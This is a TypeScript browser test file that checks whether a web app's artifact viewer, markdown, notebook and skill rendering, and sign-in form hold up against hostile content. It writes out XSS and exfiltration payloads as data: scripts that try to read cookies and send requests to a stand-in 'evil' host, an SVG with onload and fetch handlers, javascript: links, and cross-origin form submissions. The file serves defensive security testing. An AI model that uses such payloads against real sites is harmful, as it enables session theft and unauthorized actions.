// SECURITY.md 22 and 29 to 31 in a real browser: what code made is opened by its owner, and wants out. A site of the attacker's
// listens on loopback, so what got through is what arrived there.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { type Browser, type BrowserContext, chromium, type Page } from "@playwright/test";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { ownCove } from "../support/caller.ts";
import { CHROMIUM } from "../support/chromium.ts";
import { newResident, type Resident } from "../support/resident.ts";
import { signedIn } from "../support/signed-in.ts";

// Nothing tells that a page will not ask for something any more: what it would do late gets this long to do it.
const LATE_MS = 500;

const own = ownCove();
const arrived: string[] = [];
let evil: string;
let site: Server;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let ada: Resident;
/** What any page or frame really asked our server for. */
let answered: string[];

beforeAll(async () => {
  site = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*").end("x");
  });
  await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
  evil = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
  ada = await newResident(own.cove);
  browser = await chromium.launch(CHROMIUM);
  // That nothing arrives proves something only if a browser can get there.
  const anybody = await browser.newPage();
  await anybody.goto(`${evil}/reachable`);
  await anybody.close();
  expect(arrived.splice(0)).toContain("GET /reachable");
});
afterAll(async () => {
  await browser?.close();
  site?.close();
});

beforeEach(async () => {
  context = await signedIn(browser, ada);
  answered = [];
  context.on("requestfinished", (request) => answered.push(`${request.method()} ${request.url()}`));
  page = await context.newPage();
});
afterEach(async () => {
  await context.close();
  expect(arrived.splice(0)).toEqual([]);
});

describe("29. Pages and drawings that code made", () => {
  /** Each notes what became of it; `done` is noted when all have had their time. */
  const attack = () => `
    const told = {};
    const note = (what, value) => { told[what] = value; document.getElementById("told").textContent = JSON.stringify(told); };
    const attempt = (what, work) => { try { note(what, String(work())); } catch (error) { note(what, "refused"); } };
    const cove = "${own.cove.url}", evil = "${evil}";
    attempt("cookie", () => document.cookie);
    attempt("storage", () => localStorage.length);
    attempt("parent", () => parent.document.title);
    for (const [name, site] of Object.entries({ cove, evil })) {
      fetch(site + "/api/files?by=fetch").then(() => note("fetch " + name, "answered"), () => note("fetch " + name, "refused"));
      attempt("beacon " + name, () => navigator.sendBeacon(site + "/api/files?by=beacon", "x"));
      const image = new Image(); image.onload = image.onerror = ({ type }) => note("image " + name, type); image.src = site + "/icon.svg?by=image";
      const request = new XMLHttpRequest(); request.onload = request.onerror = ({ type }) => note("xhr " + name, type);
      attempt("xhr sent " + name, () => { request.open("POST", site + "/api/files?by=xhr"); request.send("x"); });
      attempt("socket " + name, () => { new WebSocket(site.replace("http", "ws") + "/?by=socket").onerror = () => note("socket " + name, "error"); });
      attempt("events " + name, () => { new EventSource(site + "/?by=events").onerror = () => note("events " + name, "error"); });
      const form = document.createElement("form"); form.method = "post"; form.action = site + "/api/sandbox/delete?by=form"; document.body.append(form);
      attempt("form " + name, () => form.submit());
      for (const [tag, attributes] of [["link", { rel: "stylesheet" }], ["link", { rel: "prefetch" }], ["link", { rel: "preconnect" }], ["script", {}], ["iframe", {}], ["object", {}], ["video", {}]]) {
        const element = Object.assign(document.createElement(tag), attributes);
        element[{ link: "href", object: "data" }[tag] ?? "src"] = site + "/?by=" + tag; document.body.append(element);
      }
      attempt("popup " + name, () => open(site + "/?by=popup"));
      attempt("top " + name, () => { top.location = site + "/?by=top"; });
    }
    attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + evil + "/?by=worker')"]))));
    setTimeout(() => note("done", true), 1500);`;

  test("a page runs in our viewer without cookies, network, forms or an origin of ours", async () => {
    const id = await made(
      "hostile.html",
      `<!doctype html><body><p id="told">nothing yet</p><script>${attack()}</script></body>`,
    );
    await page.goto(`/artifacts/${id}`);
    const told = page.frameLocator('iframe[title="hostile.html"]').locator("#told");
    await expect.poll(() => told.textContent(), { timeout: 20_000 }).toContain('"done":true');
    const outcome = JSON.parse((await told.textContent()) ?? "");
    expect(outcome).toMatchObject({ storage: "refused", parent: "refused" });
    expect(["", "refused"]).toContain(outcome.cookie);
    for (const name of ["cove", "evil"]) {
      expect(outcome).toMatchObject({ [`fetch ${name}`]: "refused", [`image ${name}`]: "error" });
      expect(outcome[`popup ${name}`]).toMatch(/^(null|refused)$/);
      expect(outcome[`top ${name}`]).toBe("refused");
    }
    expect(new URL(page.url()).pathname).toBe(`/artifacts/${id}`);
    expect(context.pages()).toHaveLength(1);
    // Of our own server nothing was asked but the page itself.
    expect(answered.filter((one) => one.includes("by="))).toEqual([]);
    expect(answered.filter((one) => one.endsWith("/preview?run"))).toHaveLength(1);
  });

  test("opened by itself, at either address, a page is as still as a picture", async () => {
    const id = await made(
      "still.html",
      `<!doctype html><body><p id="told">nothing yet</p><script>${attack()}</script></body>`,
    );
    const address = `/artifacts/${id}/still.html`;
    for (const opened of [address, `${address}/preview`, `${address}/preview?run`]) {
      await page.goto(opened, { waitUntil: "load" });
      await page.waitForTimeout(LATE_MS);
      expect(await page.locator("#told").textContent()).toBe("nothing yet");
    }
    expect(answered.filter((one) => one.includes("by="))).toEqual([]);
  });

  test("a drawing runs nothing and fetches nothing, in the viewer and by itself", async () => {
    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" width="10" height="10" onload="top.hacked = 1">
<rect width="10" height="10"/><image xlink:href="${evil}/?by=svg-image" width="1" height="1"/><script>top.hacked = 1; fetch("${evil}/?by=svg")</script>
<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}/?by=foreign"/></foreignObject></svg>`;
    const id = await made("hostile.svg", drawing);
    await page.goto(`/artifacts/${id}`);
    await page.getByText("10 × 10").waitFor();
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    await page.goto(`/artifacts/${id}/hostile.svg`);
    await page.waitForTimeout(LATE_MS);
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  });
});

describe("30. Markdown that reaches out", () => {
  const markdown = () => `# A heading

![a pixel](${evil}/pixel.png) ![][ref] <img src="${evil}/raw.png" onerror="document.title='pwned'">
[click me](javascript:document.title='pwned') <a href="javascript:document.title='pwned'">raw link</a>
<script>document.title='pwned'</script> <iframe src="${evil}/frame"></iframe> <style>@import "${evil}/style"</style>

[ref]: ${evil}/ref.png

The end of the attack.`;
  const notebook = () => ({
    cells: [
      { cell_type: "markdown", source: markdown() },
      {
        cell_type: "code",
        source: "1",
        execution_count: 1,
        outputs: [
          {
            output_type: "display_data",
            data: { "text/html": `<img src="${evil}/html.png"><script>top.document.title='pwned'</script>` },
          },
          { output_type: "display_data", data: { "text/markdown": markdown() } },
        ],
      },
    ],
  });

  test.each([
    ["an artifact", async () => `/artifacts/${await made("words.md", markdown())}`],
    ["a notebook", async () => `/artifacts/${await made("book.ipynb", JSON.stringify(notebook()))}`],
    ["a skill", async () => madeSkill(markdown())],
  ])("%s: remote images are not loaded, and links are inert", async (_what, make) => {
    await page.goto(await make());
    await page.getByText("The end of the attack.").first().waitFor();
    for (const words of ["click me", "raw link"]) {
      for (const link of await page.getByText(words).all()) await link.click();
    }
    expect(await page.locator(`[src*="${evil}"], [href^="javascript:"]`).count()).toBe(0);
    await page.waitForTimeout(LATE_MS);
    expect(await page.title()).not.toContain("pwned");
  });
});

describe("22. Bytes that are no text", () => {
  test("terminal escapes are shown inert in the history", async () => {
    const command = String.raw`printf '\033]0;pwned\007\033[2J\033[31mred\033[0m \000\377 end\n<b>not bold</b>\n'`;
    const { body } = await ada.execute("execute_bash", { command });
    await page.goto(`/history/${body.execution_id}`);
    const output = page.getByRole("region", { name: "Output" });
    await output.waitFor();
    const text = (await output.textContent()) ?? "";
    expect(text).toContain("red \ufffd\ufffd end\n<b>not bold</b>");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for.
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(await page.title()).not.toContain("pwned");
  });
});

describe("31. Cross-site requests and cookies", () => {
  test("a form of ours that another site sends is refused, and the same from here is not", async () => {
    await context.clearCookies();
    await page.goto("/sign-in");
    await page.getByLabel("E-mail").fill(ada.email);
    await page.getByLabel("Password").fill("a long password");
    // Held back as it leaves, and sent by us instead.
    await page.route("**/sign-in", (route) => route.abort());
    const held = page.waitForRequest((sent) => sent.method() === "POST");
    await page.getByRole("button", { name: "Sign in" }).click();
    const form = await held;
    const { "next-action": action = "", "content-type": type = "" } = await form.allHeaders();
    expect(action).toMatch(/^[0-9a-f]+$/);
    const send = (headers: Record<string, string>) =>
      fetch(form.url(), {
        method: "POST",
        redirect: "manual",
        headers: { "next-action": action, "content-type": type, ...headers },
        body: new Uint8Array(form.postDataBuffer() ?? []),
      });
    for (const origin of ["https://evil.example", "null", "http://localhost.evil.example"]) {
      const foreign = await send({ origin });
      expect([origin, foreign.ok]).toEqual([origin, false]);
      expect(foreign.headers.getSetCookie()).toEqual([]);
    }
    const ours = await send({ origin: own.cove.url });
    expect(ours.headers.getSetCookie().join()).toContain("cove.session=");
  });
});

/** Resolves to the id of the artifact. */
async function made(name: string, text: string): Promise<string> {
  await ada.execute("write_file", { file_path: `aside/${name}`, content: text });
  const { body } = await ada.execute("execute_bash", { command: `cp aside/${name} ${name}` });
  const artifact = body.artifacts.find(({ path }: { path: string }) => path === `/workspace/${name}`);
  expect(artifact).toBeDefined();
  return artifact.id;
}

/** Resolves to its page. */
async function madeSkill(text: string): Promise<string> {
  const content = `---\nname: hostile\ndescription: Reaches out\n---\n\n${text}`;
  await ada.execute("write_file", { file_path: ".agents/skills/hostile/SKILL.md", content });
  return "/skills/hostile";
}
